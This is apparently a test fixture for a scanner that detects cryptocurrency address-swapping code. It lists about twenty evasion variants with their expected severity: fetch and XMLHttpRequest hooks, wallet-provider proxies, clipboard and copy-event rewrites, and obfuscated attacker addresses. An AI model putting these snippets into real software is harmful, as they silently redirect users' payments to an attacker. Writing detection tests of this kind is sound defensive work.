import type { Evasion } from './evasion.js';

const OWN = '0x5555aBc2d3E4f5061728394a5B6c7D8e9F001122';
const BITCOIN = '1H13VnQJKtT4HjD5ZFKaaiZEetMbG7nDHx';
const HOOK = 'const f = fetch; globalThis.fetch = async (...g) => { const a = await f(...g); return new Response(swap(await a.text())) };';

/** Addresses of wallets that are swapped by detours. */
export const WALLETS: readonly Evasion[] = [
  ['hook and replace', `const swap = (t) => t.replace(/0x[a-fA-F0-9]{40}/g, "${OWN}"); ${HOOK}`, 'swapped-address critical'],
  ['replaceAll', `const swap = (t) => t.replaceAll(/0x[a-fA-F0-9]{40}/g, "${OWN}"); ${HOOK}`, 'swapped-address critical'],
  ['replace by its name', `const swap = (t) => t["replace"](/0x[a-fA-F0-9]{40}/g, "${OWN}"); ${HOOK}`, 'swapped-address critical'],
  ['pattern made of text', `const p = new RegExp("0x[a-f0-9]{40}", "gi"); const swap = (t) => t.replace(p, "${OWN}"); ${HOOK}`, 'swapped-address critical'],
  ['address in parts', `const own = "0x5555aBc2d3E4f506" + "1728394a5B6c7D8e9F001122"; const swap = (t) => t.replace(/0x[a-f0-9]{40}/gi, own); ${HOOK}`, 'swapped-address high'],
  ['address in base64', `const own = atob("${Buffer.from(OWN).toString('base64')}"); const swap = (t) => t.replace(/0x[a-f0-9]{40}/gi, own); ${HOOK}`, 'swapped-address high'],
  ['chosen by a function', `const own = ["${OWN}"]; const near = (a) => own[0]; const swap = (t) => t.replace(/0x[a-f0-9]{40}/gi, near); ${HOOK}`, 'swapped-address high'],
  ['window', `const s = window.fetch; window["fetch"] = (u, o) => s(u, { ...o, body: o.body.replace(/0x[a-f0-9]{40}/gi, "${OWN}") })`, 'swapped-address critical'],
  ['sent by a page', `const s = XMLHttpRequest.prototype.send; XMLHttpRequest.prototype.send = function (b) { return s.call(this, b.replace(/\\b[13][a-km-zA-HJ-NP-Z1-9]{25,34}\\b/g, "${BITCOIN}")) }`, 'swapped-address critical'],
  ['prototype by another name', `const p = XMLHttpRequest.prototype, prototype = p; prototype.open = function (m, u) { return o.call(this, m, u.replace(/bc1[a-z0-9]{39}/, "bc1qexamp7eexamp7eexamp7eexamp7eexamp7e00")) }`, 'swapped-address critical'],
  ['defined as a property', `const swap = (t) => t.replace(/0x[a-f0-9]{40}/gi, "${OWN}"); Object.defineProperty(window, "fetch", { value: (u, o) => f(u, swap(o)) })`, 'swapped-address critical'],
  ['proxy of a wallet', `window.ethereum = new Proxy(window.ethereum, { get: (t, k) => k === "request" ? (r) => { if (/^0x[a-f0-9]{40}$/i.test(r.params[0].to)) r.params[0].to = "${OWN}"; return t.request(r) } : t[k] })`, 'swapped-address high'],
  ['request of a wallet', `const { request } = window.ethereum; ethereum.request = (r) => request(JSON.parse(JSON.stringify(r).replace(/0x[a-f0-9]{40}/gi, "${OWN}")))`, 'swapped-address critical'],
  ['copied text', `document.addEventListener("copy", (e) => { const t = String(getSelection()); e.clipboardData.setData("text/plain", t.replace(/0x[a-f0-9]{40}/gi, "${OWN}")) })`, 'swapped-address critical'],
  ['clipboard', `setInterval(async () => { const t = await navigator.clipboard.readText(); if (/^0x[a-f0-9]{40}$/i.test(t)) navigator.clipboard.writeText("${OWN}") }, 900)`, 'swapped-address high'],
  ['clipboard by programs', `const { execSync } = require("child_process"); const t = execSync("pbpaste") + ""; if (/^0x[a-f0-9]{40}$/i.test(t)) execSync("pbcopy", { input: t.replace(/0x[a-f0-9]{40}/i, "${OWN}") })`, 'swapped-address critical'],
  ['page without a hook', `document.body.innerHTML = document.body.innerHTML.replace(/0x[a-f0-9]{40}/gi, "${OWN}")`, 'swapped-address high'],
  ['pattern of Solana', `const own = "5VVyuV5K6c2gMq1zVeQUFAmo8shPZH28MJCVzccrsZG6"; const swap = (t) => t.replace(/[1-9A-HJ-NP-Za-km-z]{32,44}/g, own); ${HOOK}`, 'swapped-address critical'],
  ['several scripts', { 'index.js': `const { swap } = require("./b"); ${HOOK}`, 'b.js': `exports.swap = (t) => t.replace(/0x[a-f0-9]{40}/gi, "${OWN}")` }, 'swapped-address high'],
  ['several scripts, addresses apart', { 'index.js': `const { own } = require("./b"); const swap = (t) => t.replace(/0x[a-f0-9]{40}/gi, own); ${HOOK}`, 'b.js': `exports.own = "${OWN}"` }, 'swapped-address high'],
  ['Python', { 'main.py': `import re, pyperclip\nif re.match("^0x[a-fA-F0-9]{40}$", pyperclip.paste()):\n    pyperclip.copy("${OWN}")` }, 'swapped-address high'],
];
